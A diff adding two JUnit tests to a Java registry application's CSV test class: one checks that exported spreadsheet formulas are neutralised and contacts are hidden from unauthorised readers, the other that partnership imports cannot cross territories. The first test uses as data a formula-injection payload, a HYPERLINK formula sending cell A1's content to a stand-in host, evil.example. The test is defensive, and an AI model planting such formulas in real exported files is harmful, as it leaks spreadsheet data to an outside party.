@@ -257,6 +257,49 @@ class AnalysisAndCsvTest {
   }
 
   @Test
+  void exported_formulas_are_defused_import_back_verbatim_and_contacts_follow_the_reader() {
+    String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")";
+    s.registry().create(LOIRET_EDITOR, company(formula, "45234", null), false);
+    StringWriter out = new StringWriter();
+    s.csv().exportOrganisations(LOIRET, LOIRET_EDITOR.permissions(), out);
+    String csv = out.toString();
+    assertThat(csv).contains("\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
+    assertThat(csv).contains("jeanne@example.org");
+    StringWriter anonymous = new StringWriter();
+    s.csv().exportOrganisations(LOIRET, null, anonymous);
+    assertThat(anonymous.toString()).contains("'=HYPERLINK(").doesNotContain("jeanne@example.org");
+    StringWriter cher = new StringWriter();
+    s.csv().exportOrganisations(LOIRET, CHER_EDITOR.permissions(), cher);
+    assertThat(cher.toString()).doesNotContain("Jeanne Martin");
+    DB.reset();
+    s.csv().importOrganisations(LOIRET_EDITOR, "orgs.csv", new StringReader(csv), false);
+    assertThat(s.registry().organisations(LOIRET, null, null, 100, 0))
+        .extracting(Organisation::name)
+        .containsExactly(formula);
+  }
+
+  @Test
+  void a_partnership_import_cannot_link_an_organisation_of_another_territory() {
+    long orleans = s.registry().create(LOIRET_EDITOR, association("Alpha", "45234"), false).id();
+    long bourges = s.registry().create(CHER_EDITOR, association("Foyer", "18033"), false).id();
+    String csv =
+        "title,members,category,territory\n"
+            + "Mécénat,"
+            + orleans
+            + "|"
+            + bourges
+            + ",MECENAT,departement:45\n";
+    assertThatThrownBy(
+            () -> s.csv().importPartnerships(LOIRET_EDITOR, "p.csv", new StringReader(csv)))
+        .isInstanceOf(ImportException.class)
+        .satisfies(
+            e ->
+                assertThat(((ImportException) e).errors().get(0).reason().code())
+                    .isEqualTo("registry.link.other-territory"));
+    assertThat(s.registry().partnerships(LOIRET, 100, 0)).isEmpty();
+  }
+
+  @Test
   void a_bad_line_refuses_the_whole_file_with_line_column_and_field() {
     String csv =
         "name,type,size,commune,domains,siren\n"
